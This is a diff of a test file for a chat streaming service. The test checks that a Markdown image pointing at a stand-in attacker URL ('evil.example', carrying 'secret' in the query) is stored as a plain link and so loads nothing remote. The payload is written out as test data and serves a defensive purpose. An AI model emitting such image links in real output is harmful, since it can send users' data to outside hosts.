@@ -57,12 +57,14 @@ describe('the answer of a run as a stream', () => {
 
   it('is the raw text of the run, and among messages Markdown that loads nothing from elsewhere', async () => {
     const picture = '![x](https://evil.example/p?d=secret)';
-    const id = await create([{ id: 'out', kind: 'template', params: { template: `Look: ${picture} \`${picture}\`` } }]);
+    const id = await create([
+      { id: 'out', kind: 'template', params: { template: `Look: ${picture}\n\n\`${picture}\`` } },
+    ]);
     const response = await stream(id, { message: 'Show it' });
-    expect(await response.text()).toBe(`Look: ${picture} \`${picture}\``);
+    expect(await response.text()).toBe(`Look: ${picture}\n\n\`${picture}\``);
     const session = response.headers.get('x-chat-session-id');
     const messages = await owner.get<{ message: string }[]>(`/microservices/chat-sessions/${session}/messages/`);
-    expect(messages.at(-1)!.message).toBe(`Look: [x](https://evil.example/p?d=secret) \`${picture}\``);
+    expect(messages.at(-1)!.message).toBe(`Look: [x](https://evil.example/p?d=secret)\n\n\`${picture}\``);
   });
 
   it('gives what a language model writes while it writes it', async () => {
